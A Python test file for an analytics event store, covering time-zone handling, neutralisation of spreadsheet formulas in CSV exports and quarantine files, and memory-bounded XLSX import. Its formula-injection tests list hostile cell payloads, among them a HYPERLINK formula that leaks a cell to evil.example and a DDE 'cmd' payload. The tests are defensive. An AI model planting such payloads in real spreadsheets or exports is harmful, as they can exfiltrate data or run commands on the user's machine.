"""Hostile and careless inputs to the event store: times read right, no formula reaches a
spreadsheet through an export or a quarantine file, and a long sheet imports in the memory
of one batch."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from journeyscope.events import spill
from journeyscope.events.export import export_events, write_relation
from journeyscope.events.ingest import Quarantine, ingest_files
from journeyscope.events.mapping import load_mapping
from journeyscope.events.readers import stage
from journeyscope.events.workspace import Workspace
from journeyscope.maps.spreadsheet import FORMULA_STARTS
from tests.events.test_ingest import NOW, run, write_csv, write_jsonl


@pytest.fixture
def ws(tmp_path: Path) -> Any:
    with Workspace.init(tmp_path / "ws") as workspace:  # Asia/Ho_Chi_Minh, UTC+7
        yield workspace


# ---------------------------------------------------------------- times


@pytest.mark.parametrize("writer", [write_csv, write_jsonl], ids=["csv", "jsonl"])
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-05-01", datetime(2026, 4, 30, 17, 0)),  # midnight in Hồ Chí Minh City
        ("01/05/2026", datetime(2026, 4, 30, 17, 0)),
        ("2026-05-01 10:00", datetime(2026, 5, 1, 3, 0)),
        ("2026-05-01T10:00:00+14:00", datetime(2026, 4, 30, 20, 0)),
        ("2026-05-01T10:00:00-12:00", datetime(2026, 5, 1, 22, 0)),
        ("2026-05-01 10:00:00.5+0530", datetime(2026, 5, 1, 4, 30, 0, 500000)),
        ("2026-05-01T10:00:00Z", datetime(2026, 5, 1, 10, 0)),
    ],
)
def test_dates_are_local_midnight_and_offsets_are_honoured(
    ws: Workspace, tmp_path: Path, writer: Any, value: str, expected: datetime
) -> None:
    suffix = ".csv" if writer is write_csv else ".jsonl"
    path = writer(tmp_path / f"t{suffix}", [{"event_id": "a", "ts": value}])
    result = run(ws, path, {"constants": {"event": "page_view"}})
    assert result.accepted == 1, result.to_dict()
    assert ws.scalar("SELECT ts FROM events") == expected


def test_a_date_cell_of_a_sheet_is_local_midnight(ws: Workspace, tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(["event_id", "ts", "event"])
    wb.active.append(["a", date(2026, 5, 1), "page_view"])
    wb.save(tmp_path / "d.xlsx")
    assert run(ws, tmp_path / "d.xlsx").accepted == 1
    assert ws.scalar("SELECT ts FROM events") == datetime(2026, 4, 30, 17, 0)


@pytest.mark.parametrize(
    ("value", "fmt"),
    [
        ("2026-05-01T10:00:00+15:00", "auto"),
        ("2026-05-01T10:00:00-14:30", "iso"),
        ("2026-05-01 10:00+99:00", "auto"),
        ("2026-05-01T10:00:00+0575", "auto"),
        ("2026-05-01 10:00 +1500", "%Y-%m-%d %H:%M %z"),
    ],
)
def test_offsets_outside_fourteen_hours_are_quarantined_with_their_reason(
    ws: Workspace, tmp_path: Path, value: str, fmt: str
) -> None:
    good = "2026-05-01 10:00 +0700" if "%" in fmt else "2026-05-01T10:00:00-12:00"
    path = write_csv(
        tmp_path / "t.csv",
        [
            {"event_id": "bad", "ts": value, "event": "page_view"},
            {"event_id": "ok", "ts": good, "event": "page_view"},
        ],
    )
    result = run(ws, path, {"timestamp": {"format": fmt}})
    assert (result.accepted, result.rejected) == (1, 1), result.to_dict()
    assert result.files[0].quarantine is not None
    with Path(result.files[0].quarantine).open(encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["field"] == "ts" and "outside -14:00…+14:00" in row["reason"]
    assert value in row["reason"]


# ---------------------------------------------------------------- formula injection

RISKY = ['=HYPERLINK("http://evil.example/?"&A1)', "+84903123456", "-1+cmd|' /C calc'!A0"]
RISKY += ["@SUM(1)", "\t=1", "\r=1", "＝1+1"]


def test_every_risky_first_character_is_covered() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_STARTS


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_reports_write_text_inert_and_leave_numbers_alone(tmp_path: Path) -> None:
    con = duckdb.connect()
    rel = con.sql(
        "SELECT * FROM (VALUES (1, $a, -2.5, ['=x'], 'plain'), (2, $b, 3.0, [], NULL)) "
        't(n, "odd ""name""", revenue, tags, note)',
        params={"a": RISKY[0], "b": "'=typed quote"},
    )
    write_relation(rel, tmp_path / "r.csv")
    rows = _cells(tmp_path / "r.csv")
    assert rows[0]['odd "name"'] == "'" + RISKY[0]
    assert rows[1]['odd "name"'] == "'=typed quote"  # no formula: left as written
    assert rows[0]["revenue"] == "-2.5" and rows[0]["note"] == "plain"
    write_relation(rel, tmp_path / "r.parquet")
    assert pq.read_table(tmp_path / "r.parquet").column(1).to_pylist()[0] == RISKY[0]


def test_events_export_and_quarantine_never_hand_a_spreadsheet_a_formula(
    ws: Workspace, tmp_path: Path
) -> None:
    rows = [
        {"event_id": f"e{i}", "ts": "2026-05-01T10:00:00+07:00", "event": "page_view"}
        | {"touchpoint": text, "email": f"{text}@x.vn"}
        for i, text in enumerate(RISKY)
    ]
    rows.append({"event_id": "=bad", "ts": "=NOW()", "event": "=cmd|' /C calc'!A0"})
    result = ingest_files(
        ws, [write_csv(tmp_path / "=evil.csv", rows)], load_mapping(None), now=NOW
    )
    assert (result.accepted, result.rejected) == (len(RISKY), 1)
    assert export_events(ws, tmp_path / "out.csv") == len(RISKY)
    exported = _cells(tmp_path / "out.csv")
    assert sorted(r["touchpoint"] for r in exported) == sorted("'" + t for t in RISKY)
    assert result.quarantine is not None
    for path in (tmp_path / "out.csv", Path(result.quarantine)):
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert cells and not [c for c in cells if c and c[0] in FORMULA_STARTS], path
    export_events(ws, tmp_path / "out.parquet")  # Parquet is data, kept exactly
    tps = pq.read_table(tmp_path / "out.parquet").column("touchpoint").to_pylist()
    assert sorted(tps) == sorted(RISKY)


def test_a_quarantine_file_guards_every_column() -> None:
    buffer = io.StringIO()
    target = Path("unused")
    quarantine = Quarantine(target)
    quarantine.rows.extend([["=a.csv", 2, "-field", "@reason", json.dumps({"x": 1})]])
    writer = csv.writer(buffer)
    from journeyscope.maps.spreadsheet import safe_csv_rows

    writer.writerows(safe_csv_rows(quarantine.rows))
    assert buffer.getvalue().splitlines()[0].startswith("'=a.csv,2,'-field,'@reason,")


# ---------------------------------------------------------------- long sheets


def _long_sheet(path: Path, rows: int, note: str = "") -> Path:
    """An XLSX of ``rows`` events written directly as XML (openpyxl would take minutes)."""
    cells = "".join(
        f'<row r="{r + 2}"><c r="A{r + 2}" t="inlineStr"><is><t>e{r}</t></is></c>'
        f'<c r="B{r + 2}" t="inlineStr"><is><t>2026-05-01T10:00:00+07:00</t></is></c>'
        f'<c r="C{r + 2}" t="inlineStr"><is><t>{note}{r}</t></is></c>'
        f'<c r="D{r + 2}"><v>{r % 997}</v></c></row>'
        for r in range(rows)
    )
    header = "".join(
        f'<c r="{c}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for c, name in zip("ABCD", ["event_id", "ts", "note", "revenue"], strict=True)
    )
    ns = "http://schemas.openxmlformats.org"
    sheet = (
        f'<worksheet xmlns="{ns}/spreadsheetml/2006/main"><dimension ref="A1:D{rows + 1}"/>'
        f'<sheetData><row r="1">{header}</row>{cells}</sheetData></worksheet>'
    )
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/'
            'relationships"><sheets><sheet name="events" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return path


def test_a_long_sheet_is_read_in_the_memory_of_one_batch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """4,000 rows of a kilobyte each, read in batches of 250: the rows (4 MB as text, far
    more as Python objects) are never all in memory; bench/RESULTS.md has a million rows."""
    rows, note = 4_000, "ý" * 1_000
    monkeypatch.setattr(spill, "BATCH_ROWS", 250)
    path = _long_sheet(tmp_path / "long.xlsx", rows, note)
    scratch = tmp_path / "scratch"
    seen: list[float] = []
    con = duckdb.connect()
    warm = _long_sheet(tmp_path / "warm.xlsx", 3)  # imports are not the rows' memory
    stage(con, warm, load_mapping(None).mapping, scratch=scratch).close()
    tracemalloc.start()
    try:
        staged = stage(
            con,
            path,
            load_mapping(None).mapping,
            scratch=scratch,
            progress=lambda _, pct: seen.append(pct),
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < rows * len(note.encode()) / 4, f"{peak / 1e6:.1f} MB at peak"
    assert con.execute("SELECT count(*), max(_rec) FROM src").fetchone() == (rows, rows - 1)
    assert con.execute("SELECT event_id, note, revenue FROM src WHERE _rec = 1234").fetchone() == (
        "e1234",
        f"{note}1234",
        str(1234 % 997),
    )
    assert len(seen) > rows // 250 and seen == sorted(seen) and seen[-1] == 100.0
    assert 0 < seen[0] < 10, "progress is told from the first batch on"
    assert list(scratch.iterdir()), "batches live in the scratch folder while in use"
    staged.close()
    assert not list(scratch.iterdir()), "and are removed with the import"


def test_reading_a_sheet_keeps_no_trace_of_the_rows_read(tmp_path: Path) -> None:
    """openpyxl alone keeps an emptied element per row read (about 85 MB a million rows):
    its traced memory climbs about 40 kB per thousand rows of this sheet; ours stays flat."""
    from openpyxl import load_workbook

    path = _long_sheet(tmp_path / "rows.xlsx", 6_000)
    ws = load_workbook(path, read_only=True, data_only=True).worksheets[0]
    marks: list[int] = []
    tracemalloc.start()
    try:
        for number, row in enumerate(spill.sheet_values(ws)):
            if number % 1_000 == 0:
                marks.append(tracemalloc.get_traced_memory()[0])
            assert number == 0 or row[0] == f"e{number - 1}"
    finally:
        tracemalloc.stop()
    # memory swings with the zip's buffers, so compare the lows at the end with the highs
    # at the start: growing with the rows read would put the former above the latter
    assert len(marks) == 7 and min(marks[-3:]) - max(marks[:3]) < 50_000, marks
